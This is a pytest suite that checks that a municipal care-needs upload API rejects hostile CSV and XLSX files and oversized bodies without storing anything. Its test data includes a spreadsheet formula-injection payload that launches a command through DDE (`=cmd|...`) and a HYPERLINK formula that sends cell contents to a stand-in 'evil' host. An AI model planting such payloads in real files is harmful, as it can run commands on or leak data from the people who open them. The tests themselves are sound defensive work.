"""Hostile input: an upload corpus and oversized bodies — each refused clearly, nothing stored.

Every file goes to ``POST /api/v1/needs/upload`` as the Stockholm municipal coordinator. Each
hostile one must get a 4xx problem+json whose ``errors`` name the problem (the message or field
checked below), and the need reports and lines counted before and after must not change. The
corpus is generated here (no big files in the repository): wrong columns, latin-1 and UTF-16,
formulas in cells (``=cmd|…``, ``+``, ``-``, ``@``: read as text, refused as non-numbers, never
evaluated — an .xlsx formula cell is read for its stored value only, which an unsaved formula does
not have), negative and huge numbers, another municipality's home, an unknown home, a binary
disguised as .xlsx, an empty file, a header without rows, duplicate rows, 100,000 rows (refused:
at most ``MAX_FILE_ROWS``), and a 50 MB file (413 from the body size limit). A JSON body over the
limit is refused with 413 too. A valid file is stored (the control: the counting works).

What was stored from hostile input: nothing.
"""

from __future__ import annotations

import io
import json
import os
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest
from fastapi import FastAPI
from openpyxl import Workbook
from sqlalchemy import Connection, func, select

from api.app import create_app
from api.settings import ApiSettings
from data.models import NeedLine, NeedReport
from data.needs.upload import MAX_FILE_ROWS
from tests.api.conftest import (
    DATA_SETTINGS,
    TEST_SETTINGS,
    World,
    api_connection,
    api_engine,
    app,
    as_role,
    joined_factory,
    world,
)
from tests.api.testclient import TestClient

__all__ = ["api_connection", "api_engine", "app", "as_role", "world"]

HEADER = "care_home_id,item,requested,on_hand,daily_use,situation\r\n"
Upload = tuple[str, bytes]


def _csv(*rows: str, header: str = HEADER) -> bytes:
    return (header + "".join(f"{row}\r\n" for row in rows)).encode()


def _xlsx(rows: Sequence[Sequence[str | int | None]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def corpus(own: str, other: str) -> dict[str, tuple[Upload, str]]:
    """Name → ((filename, content), a text the error must contain)."""
    latin1 = HEADER.rstrip("\r\n") + ",kommentar\r\n" + f"{own},IIR,10,1,,none,Solgården\r\n"
    return {
        "wrong columns": (
            ("a.csv", b"home;article;qty\r\nH1;IIR;10\r\n"),
            "kolumnen boende saknas",
        ),
        "latin-1": (("a.csv", latin1.encode("latin-1")), "inte UTF-8"),
        "utf-16": (("a.csv", _csv(f"{own},IIR,10,1,,none").decode().encode("utf-16")), "UTF-16"),
        "formula =cmd": (("a.csv", _csv(f"{own},IIR,=cmd|' /C calc'!A0,1,,none")), "requested"),
        "formula +": (("a.csv", _csv(f"{own},IIR,+1+1,1,,none")), "requested"),
        "formula -": (("a.csv", _csv(f"{own},IIR,10,-2+3,,none")), "on_hand"),
        "formula @": (("a.csv", _csv("@SUM(A1:A9),IIR,10,1,,none")), "care_home_id"),
        "xlsx formula never evaluated": (
            (
                "a.xlsx",
                _xlsx([HEADER.strip().split(","), [own, "IIR", "=10*10", 1, None, "none"]]),
            ),
            "requested",
        ),
        "negative": (("a.csv", _csv(f"{own},IIR,-5,1,,none")), "requested"),
        "huge": (("a.csv", _csv(f"{own},IIR,{10**20},1,,none")), "requested"),
        "huge on hand": (("a.csv", _csv(f"{own},IIR,10,{10**20},,none")), "on_hand"),
        "not a number": (("a.csv", _csv(f"{own},IIR,1e400,1,,none")), "requested"),
        "another municipality's home": (
            ("a.csv", _csv(f"{own},IIR,10,1,,none", f"{other},IIR,10,1,,none")),
            "finns inte bland kommunens",
        ),
        "unknown home": (("a.csv", _csv("H-NOPE,IIR,10,1,,none")), "finns inte bland kommunens"),
        "binary as xlsx": (("a.xlsx", os.urandom(4096)), "kunde inte läsas"),
        "binary as csv": (("a.csv", b"\x00\x01\x02PK\x03\x04" * 100), "inte en textfil"),
        "empty": (("a.csv", b""), "tom"),
        "header only": (("a.csv", HEADER.encode()), "inga ifyllda rader"),
        "duplicate rows": (
            ("a.csv", _csv(f"{own},IIR,10,1,,none", f"{own},IIR,10,1,,none")),
            "item",
        ),
        "100,000 rows": (
            ("a.csv", _csv(*[f"{own},IIR,{i % 90 + 1},1,,none" for i in range(100_000)])),
            f"fler än {MAX_FILE_ROWS}",
        ),
    }


def _counts(connection: Connection) -> tuple[int, int]:
    reports = connection.execute(select(func.count()).select_from(NeedReport)).scalar_one()
    lines = connection.execute(select(func.count()).select_from(NeedLine)).scalar_one()
    return reports, lines


@pytest.fixture
def roomy_app(api_engine: object, api_connection: Connection) -> Iterator[FastAPI]:
    """The app with the default (production) body limit, on the test's rolled-back connection."""
    application = create_app(api_engine, settings=ApiSettings(), data_settings=DATA_SETTINGS)  # type: ignore[arg-type]
    application.state.session_factory = joined_factory(api_connection)
    yield application


def _upload(client: TestClient, upload: Upload) -> tuple[int, dict[str, object]]:
    response = client.post("/api/v1/needs/upload", files={"file": upload})
    body = response.json() if response.content else {}
    return response.status_code, body


def test_upload_corpus_refused_naming_the_problem(
    roomy_app: FastAPI, world: World, api_connection: Connection
) -> None:
    """Every hostile file: 4xx naming the problem; reports and lines unchanged."""
    own, other = str(world.ids["own_home"]), str(world.ids["other_home"])
    outcomes: dict[str, str] = {}
    with TestClient(roomy_app) as client:
        client.headers["Authorization"] = f"Bearer {world.tokens['coordinator_own']}"
        for name, (upload, expected) in corpus(own, other).items():
            before = _counts(api_connection)
            status, body = _upload(client, upload)
            text = json.dumps(body, ensure_ascii=False)
            assert status == 422, f"{name}: {status} {text[:300]}"
            assert expected in text, f"{name}: {text[:300]}"
            assert body["errors"], name
            assert _counts(api_connection) == before, f"{name} stored something"
            outcomes[name] = str(body["errors"][0])  # type: ignore[index]
        control = _csv(f"{own},IIR,10,1,,none")
        before = _counts(api_connection)
        status, body = _upload(client, ("ok.csv", control))
        assert status == 201, body
        assert _counts(api_connection) == (before[0] + 1, before[1] + 1)
    assert len(outcomes) == len(corpus(own, other))


def test_formula_is_never_echoed_unescaped(
    as_role: Callable[[str], TestClient], world: World
) -> None:
    """A formula in a cell comes back only inside JSON (a string), never as a CSV cell."""
    own = str(world.ids["own_home"])
    client = as_role("coordinator_own")
    payload = '=HYPERLINK("http://evil/"&A1)'
    status, body = _upload(client, ("a.csv", _csv(f"{own},{payload},10,1,,none")))
    assert status == 422
    assert body["errors"]


def test_fifty_megabyte_file_is_refused_with_413(
    roomy_app: FastAPI, world: World, api_connection: Connection, tmp_path: Path
) -> None:
    """A 50 MB upload (generated here) is refused by the size limit before it is parsed."""
    own = str(world.ids["own_home"])
    big = tmp_path / "big.csv"
    row = f"{own},IIR,10,1,,none\r\n".encode()
    with big.open("wb") as out:
        out.write(HEADER.encode())
        out.write(row * (50 * 1024 * 1024 // len(row) + 1))
    assert big.stat().st_size >= 50 * 1024 * 1024
    before = _counts(api_connection)
    with TestClient(roomy_app) as client, big.open("rb") as handle:
        client.headers["Authorization"] = f"Bearer {world.tokens['coordinator_own']}"
        response = client.post("/api/v1/needs/upload", files={"file": ("big.csv", handle)})
    assert response.status_code == 413, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "larger than" in response.json()["detail"]
    assert _counts(api_connection) == before


def test_json_body_over_the_limit_is_refused(
    app: FastAPI, world: World, api_connection: Connection
) -> None:
    """A JSON need report over the limit (1 MB in the test app): 413, nothing stored."""
    lines = [{"item": "IIR", "requested": 1, "on_hand": 0}] * 40_000
    body = json.dumps({"care_home_id": str(world.ids["own_home"]), "lines": lines})
    assert len(body) > TEST_SETTINGS.max_body_bytes
    before = _counts(api_connection)
    with TestClient(app) as client:
        client.headers["Authorization"] = f"Bearer {world.tokens['county']}"
        response = client.post(
            "/api/v1/needs", content=body, headers={"content-type": "application/json"}
        )
    assert response.status_code == 413
    assert _counts(api_connection) == before
